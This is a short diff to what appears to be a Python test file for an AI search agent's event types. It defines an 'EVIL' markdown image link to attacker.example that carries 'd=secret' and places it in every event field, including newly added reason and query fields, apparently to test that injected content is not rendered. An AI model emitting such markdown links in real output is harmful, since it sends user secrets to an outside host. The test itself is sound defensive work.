@@ -150,8 +150,10 @@ EVIL = "![x](https://attacker.example/p.png?d=secret)"
 SPOKEN: list[EventBody] = [
     QueryIssued(2, "search", EVIL, EVIL),
     PlanMade((SubQuestion("b1", f"What is {EVIL}?"), SubQuestion("b2", EVIL, ("b1",)))),
-    SufficiencyJudged(2, 0.5, sufficient=False, known=(EVIL,), missing=(EVIL, "when"), contradictions=(EVIL,)),
-    GuardTripped(2, "dedup", "search", f"asked before: {EVIL}"),
+    SufficiencyJudged(
+        2, 0.5, sufficient=False, known=(EVIL,), missing=(EVIL, "when"), contradictions=(EVIL,), reason=EVIL
+    ),
+    GuardTripped(2, "dedup", "search", f"asked before: {EVIL}", query=EVIL),
     ClarificationAsked(EVIL, (EVIL,)),
     Degraded("llm", EVIL),
 ]
